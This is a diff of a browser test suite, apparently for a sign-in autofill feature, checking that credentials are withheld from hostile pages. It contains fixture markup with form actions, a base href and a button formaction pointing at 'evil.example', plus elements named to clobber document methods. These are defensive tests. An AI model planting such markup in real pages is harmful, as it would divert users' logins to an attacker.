@@ -76,7 +76,7 @@ test.describe('what nobody can see gets nothing', () => {
 test.describe('a form that leads elsewhere gets nothing', () => {
   const ELSEWHERE: readonly (readonly [how: string, body: string, isQuick?: boolean])[] = [
     ['its action', writeSignIn(EMAIL_FIELD + KEY_FIELD, '', 'action="https://evil.example/x"')],
-    ['an action that a base address turns', `<base href="https://evil.example/">${writeSignIn(EMAIL_FIELD + KEY_FIELD, '', 'action="x"')}`, true],
+    ['an action that a base address turns', `<base href="https://evil.example/">${writeSignIn(EMAIL_FIELD + KEY_FIELD, '', 'action="x"')}`],
     ['the action of a button', writeSignIn(`${EMAIL_FIELD + KEY_FIELD}<button formaction="https://evil.example/x">Sign in</button>`)],
     ['the action of a button elsewhere on the page', `${writeSignIn(EMAIL_FIELD + KEY_FIELD)}<button form="form" formaction="https://evil.example/x">Help</button>`, true],
     ['another window', writeSignIn(EMAIL_FIELD + KEY_FIELD, '', 'target="elsewhere"')],
@@ -187,7 +187,9 @@ test('fields named like properties of a form do not stop a sign-in', { tag: '@lo
   expect(await page.locator('#email').inputValue()).toBe(hostile.site.account.email);
 });
 
-test('images and forms named like the methods of a document do not stop a sign-in', async ({ hostile }) => {
+test('images and forms named like the methods of a document do not stop a sign-in', { tag: '@long' }, async ({
+  hostile,
+}) => {
   const names = ['querySelectorAll', 'elementFromPoint', 'documentElement', 'baseURI', 'addEventListener', 'forms'];
   const page = await hostile.open(
     `${writeSignIn(EMAIL_FIELD)}${names.map(name => `<img name="${name}" alt="">`).join('')}`,
